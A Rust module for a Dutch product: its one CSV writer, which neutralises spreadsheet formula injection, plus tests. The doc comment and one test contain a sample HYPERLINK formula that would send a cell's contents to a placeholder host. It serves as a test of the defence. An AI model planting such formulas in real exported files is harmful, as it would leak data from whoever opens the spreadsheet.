//! The one CSV writer of the product: every CSV file it writes (answer export, codebooks, codes for
//! a mail merge, paper reports and mappings, open data, the complaints register, the audit log)
//! goes through [`Writer`], so every file is safe to open in a spreadsheet.
//!
//! The rule (OWASP, "CSV injection"): a spreadsheet runs a cell that starts with `=`, `+`, `-`,
//! `@`, a tab or a carriage return as a formula, so a resident who types
//! `=HYPERLINK("http://…"&B2;"klik hier")` as an open answer could make a researcher's spreadsheet
//! send data elsewhere. Such a text cell gets a single quote `'` in front, and the field is put in
//! double quotes. Numbers are left alone (`-3.2` stays a number for every program that reads the
//! file); a text that starts with quotes followed by one of those characters gets one more quote,
//! so [`restore`] gives back exactly what was written. Fields with a comma, semicolon, quote, tab
//! or line break are always quoted: Dutch Excel splits unquoted fields at the semicolon.
//!
//! A test (`tests/it/csv_safety.rs`) fails when code outside this module builds a `csv::Writer`.

use std::borrow::Cow;
use std::io::Write;

/// How the files are written, for the codebooks (in Dutch, like the files).
pub const CODEBOOK_NOTE: &str = "Veilig in een spreadsheet: een tekstcel die begint met =, +, -, @, een tab of een regelterugloop krijgt een enkel aanhalingsteken (') ervoor en staat tussen dubbele aanhalingstekens, zodat een spreadsheet er geen formule van maakt. Wie de oorspronkelijke tekst nodig heeft, haalt dat ene ' weg (ook als er na de aanhalingstekens nog een van die tekens volgt). Getallen, zoals -3.2, worden nooit veranderd.";

/// First characters that make a spreadsheet read a cell as a formula.
pub const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A plain number as the product writes one: an optional sign, digits, and at most one decimal
/// point followed by digits (`7`, `-3.2`, `+12`). Such a cell is never changed.
pub fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (whole, fraction) = match digits.split_once('.') {
        Some((w, f)) => (w, Some(f)),
        None => (digits, None),
    };
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && fraction.is_none_or(all_digits)
}

/// Whether a text cell needs the quote in front: it starts with a trigger (and is not a number),
/// or with quotes followed by a trigger (so that [`restore`] is exact).
fn needs_prefix(cell: &str) -> bool {
    if cell.starts_with(TRIGGERS) {
        return !is_number(cell);
    }
    cell.starts_with('\'') && cell.trim_start_matches('\'').starts_with(TRIGGERS)
}

/// The cell as written to a file: `'` in front of a text that a spreadsheet would run.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if needs_prefix(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The original text of a cell read back from a file this product wrote (the inverse of
/// [`neutralise`]): one leading `'` is taken off when quotes and then a trigger follow.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.trim_start_matches('\'').starts_with(TRIGGERS) => rest,
        _ => cell,
    }
}

/// Whether the field goes in double quotes: it holds a separator (comma or semicolon), a quote, a
/// tab or a line break, or starts with the added `'`.
fn needs_quotes(field: &str) -> bool {
    field.starts_with('\'')
        || field
            .bytes()
            .any(|b| matches!(b, b'"' | b',' | b';' | b'\n' | b'\r' | b'\t'))
}

/// A CSV writer (comma separated, `\n` between records, every record as long as the first) that
/// neutralises and quotes every field as described above. Wraps the `csv` crate, which keeps the
/// records, buffering and lengths; quoting is decided here, once, for every export.
pub struct Writer<W: Write> {
    inner: csv::Writer<W>,
    scratch: String,
}

impl<W: Write> Writer<W> {
    /// A writer into `out` (buffered; call [`Writer::flush`] or [`Writer::into_inner`] at the end).
    pub fn from_writer(out: W) -> Writer<W> {
        Writer {
            inner: csv::WriterBuilder::new()
                .quote_style(csv::QuoteStyle::Never)
                .from_writer(out),
            scratch: String::new(),
        }
    }

    /// Writes one field of the current record.
    pub fn write_field(&mut self, field: &str) -> csv::Result<()> {
        let cell = neutralise(field);
        if !needs_quotes(&cell) {
            return self.inner.write_field(cell.as_bytes());
        }
        self.scratch.clear();
        self.scratch.push('"');
        for c in cell.chars() {
            if c == '"' {
                self.scratch.push('"');
            }
            self.scratch.push(c);
        }
        self.scratch.push('"');
        self.inner.write_field(self.scratch.as_bytes())
    }

    /// Ends the current record.
    pub fn end_record(&mut self) -> csv::Result<()> {
        self.inner.write_record(None::<&[u8]>)
    }

    /// Writes a whole record.
    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        for field in record {
            self.write_field(field.as_ref())?;
        }
        self.end_record()
    }

    /// Writes what is buffered to the underlying writer.
    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// Flushes and gives back the underlying writer.
    pub fn into_inner(self) -> anyhow::Result<W> {
        self.inner
            .into_inner()
            .map_err(|e| anyhow::Error::new(e.into_error()).context("CSV niet geschreven"))
    }
}

/// Writes rows into memory (for small files such as a codebook); the bytes of the file.
pub fn to_vec<I, R, T>(rows: I) -> anyhow::Result<Vec<u8>>
where
    I: IntoIterator<Item = R>,
    R: IntoIterator<Item = T>,
    T: AsRef<str>,
{
    let mut w = Writer::from_writer(vec![]);
    for row in rows {
        w.write_record(row)?;
    }
    w.into_inner()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn written(fields: &[&str]) -> String {
        String::from_utf8(to_vec([fields]).unwrap()).unwrap()
    }

    #[test]
    fn formulas_get_a_quote_and_double_quotes() {
        let attack = "=HYPERLINK(\"http://x\"&B2,\"klik hier\")";
        assert_eq!(
            written(&[attack]),
            "\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"klik hier\"\")\"\n"
        );
        for cell in [
            "=1+1",
            "+31 6 1234",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "-",
            "+",
        ] {
            let out = neutralise(cell);
            assert_eq!(out, format!("'{cell}"), "{cell:?}");
            assert!(written(&[cell]).starts_with("\"'"), "{cell:?} is quoted");
        }
    }

    #[test]
    fn numbers_and_plain_text_are_left_alone() {
        for cell in [
            "-3.2",
            "-1.5",
            "+12",
            "7",
            "0.5",
            "3.",
            "Goed geholpen",
            "",
            "'s-Hertogenbosch",
        ] {
            let expect_number = matches!(cell, "-3.2" | "-1.5" | "+12" | "7" | "0.5");
            assert_eq!(is_number(cell), expect_number, "{cell:?}");
        }
        assert_eq!(
            written(&["-3.2", "7", "", "Goed geholpen"]),
            "-3.2,7,,Goed geholpen\n"
        );
        assert_eq!(neutralise("'s-Hertogenbosch"), "'s-Hertogenbosch");
        assert_eq!(restore("'s-Hertogenbosch"), "'s-Hertogenbosch");
        // Not numbers: a spreadsheet could still compute these.
        for cell in ["-1e5", "-inf", "-NaN", "--1", "-1.2.3", "-.5", "-1,5"] {
            assert!(!is_number(cell), "{cell:?}");
            assert_eq!(neutralise(cell), format!("'{cell}"));
        }
    }

    #[test]
    fn separators_are_always_quoted() {
        // Dutch Excel splits at the semicolon; an unquoted one would start a new cell.
        assert_eq!(written(&["a;=1+1", "b"]), "\"a;=1+1\",b\n");
        assert_eq!(written(&["Regel 1\nRegel 2"]), "\"Regel 1\nRegel 2\"\n");
    }

    #[test]
    fn a_text_that_looks_neutralised_already_is_kept_apart() {
        assert_eq!(neutralise("'=1"), "''=1");
        assert_eq!(restore("''=1"), "'=1");
        assert_eq!(restore("'=1"), "=1");
    }

    #[test]
    fn records_must_be_as_long_as_the_first() {
        let mut w = Writer::from_writer(vec![]);
        w.write_record(["a", "b"]).unwrap();
        assert!(w.write_record(["c"]).is_err());
    }

    proptest! {
        #[test]
        fn restore_gives_back_what_was_written(cell in "['=+\\-@\t\r a-z0-9.,;\"]{0,12}") {
            let out = neutralise(&cell);
            prop_assert_eq!(restore(&out), cell.as_str());
            prop_assert!(!out.starts_with(TRIGGERS) || is_number(&out));
        }

        #[test]
        fn a_csv_reader_gets_the_neutralised_cells_back(cells in proptest::collection::vec("[=+\\-@ a-z0-9.,;\"\n]{0,8}", 1..6)) {
            let bytes = to_vec([&cells]).unwrap();
            let mut r = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[..]);
            let rec = r.records().next().unwrap().unwrap();
            let back: Vec<String> = rec.iter().map(|c| restore(c).to_string()).collect();
            prop_assert_eq!(back, cells);
        }
    }
}
